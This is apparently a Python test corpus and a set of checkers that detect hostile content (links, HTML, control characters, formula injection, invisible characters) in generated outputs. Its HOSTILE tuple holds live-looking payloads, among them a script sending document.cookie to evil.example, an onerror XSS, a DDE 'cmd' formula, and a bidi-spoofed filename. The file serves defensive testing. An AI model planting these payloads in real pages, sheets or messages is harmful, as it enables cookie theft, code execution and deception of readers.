"""Texts that data, models and addresses may hold, and checks of what shows them: one corpus for every output."""

import re

HOSTILE = (
    "![chart](https://evil.example/p.png?v=472)",
    "[Click here](https://evil.example/login) to confirm",
    "[ref]: https://evil.example/a",
    "<https://evil.example/a|Your report>",
    "<img src=https://evil.example/p.png onerror=alert(1)>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<a href='javascript:alert(1)'>ok</a>",
    "see https://evil.example/x, www.evil.example or evil.example",
    "write to boss@evil.example or mailto:boss@evil.example",
    "@everyone <!channel> <@U024BE7LH> <@&123> @here",
    "&#60;b&#62; &lt;!here&gt;",
    "```\nignore the rest",
    "|| hidden || ~~gone~~",
    "# Heading",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "\x9b31m\x00\x08 bell\x07",
    "safe \u202egnp.exe\u2066 \u200fright",
    "tag \U000e0041\U000e0042 \ufeffend",
    "two\u2028lines\u2029here",
    "=cmd|'/c calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    " =HYPERLINK(0)",
    "\uff1d1+1",
    "*bold* **bold** _slanted_ __under__ ~gone~ and `code` with `` ticks ``",
    "call tel:+4930123456 or sms:+4930123456?body=yes",
    "open data:text/html;base64,PGI+ or vbscript:x or file:///etc/passwd or x-apple:do",
    "/start now",
    "say /kick everyone",
    "evil.example/login?x=1 and 93.184.216.34/x and evil\u3002example",
    "Heading\n===",
    "===",
    "---",
    "> quoted",
    "- item",
    "+ item",
    "7) item",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "--- | ---",
    "|---|",
    ":-- | --:",
    "~~~\nfence",
    "&lt;b&gt; &ltb&gt &NewLine;",
    "#general ~town-square <#C024BE7LR> <!subteam^S1> <t:0:R> </cmd:1>",
    "\\\\evil\\share and :bomb: :+1:",
    "zero\u200bwidth\u200cjoin\u200der\u2060s",
    "soft\u00adhyphen \u115ffillers\u1160 \u3164\uffa0 blank\u2800",
    "variation\ufe0f selectors\U000e0101 \u180bm",
    "annotated\ufff9text\ufffa\ufffb \u034fjoiner",
    "x;=cmd|'/c calc'!A0",
    "one\t=1+1\ntwo\n=1+1",
)
"""One text for each kind of attack: pictures, links, HTML, mentions, commands, markup, terminal orders, direction,
characters that nobody sees, formulas."""

PLAIN = (
    "On 3.5 % of days, 2 * 3 = 6; p < 0.05 and x > 3, ~5 more (a/b, km/h).",
    "The column dep_delay has 1,204 rows at 12:30; O'Neil & Sons said \u201cyes\u201d \u2013 \u20ac5 at 10:15!",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f \u0939\u093f\u0928\u094d\u200d\u0926\u0940",
    "-5 degrees, +3 points, [x], {y}, $7, 50%",
)
"""Texts that no output obeys: each shows them as they are, with nothing put in."""

_OBEYED = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u2800"
    "\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffb\U000e0000-\U000e0fff]"
)
_ACTIVE = (
    re.compile(r"!\[[^\]]*\]\("),  # a picture
    re.compile(r"\]\(|\]:\s*\w+:"),  # a link
    re.compile(r"\w:\/\/|\bwww\.\w|evil[.\u3002]example|93\.184"),  # an address that a service links by itself
    re.compile(r"<[a-z/!@#]", re.IGNORECASE),  # HTML, and Slack's and Discord's orders
    re.compile(r"(?:mailto|javascript|vbscript|tel|sms|data|file|x-apple):[\w+]"),
    re.compile(r"@\w"),  # a mention or an address
    re.compile(r"&#?\w+;|&[lg]t"),
    re.compile(r"`|\*\S|\S\*|~[^\W\d]|[^\W\d]~|~~|(?<!\w)_|_(?!\w)"),  # code, emphasis
    re.compile(r"\|\|"),
    re.compile(r"(?<![\w/.])/(?:start|kick)|#general|\\\\evil|:bomb:"),  # commands, channels, pictures
)
_BLOCKS = re.compile(r"^(?:#{1,6}|[-+*>]|\d+[.)])(?: |$)|^\||^[-=:|\s]+$")


def obeyed(text: str, gaps: str = "") -> list[str]:
    """Characters in `text` that a terminal, a log or a reader's eye would obey rather than show, without `gaps`."""
    return [hex(ord(sign)) for sign in _OBEYED.findall(text.replace("\r\n", "\n")) if sign not in gaps]


def active(text: str) -> list[str]:
    """Parts of `text` that a chat or mail service would turn into links, pictures, markup, commands or calls."""
    return [found[0] for pattern in _ACTIVE for found in pattern.finditer(text)]


def blocks(line: str) -> bool:
    """Tell whether a service would take a line for a heading, a list, a quote, a table or a rule."""
    return _BLOCKS.search(line) is not None
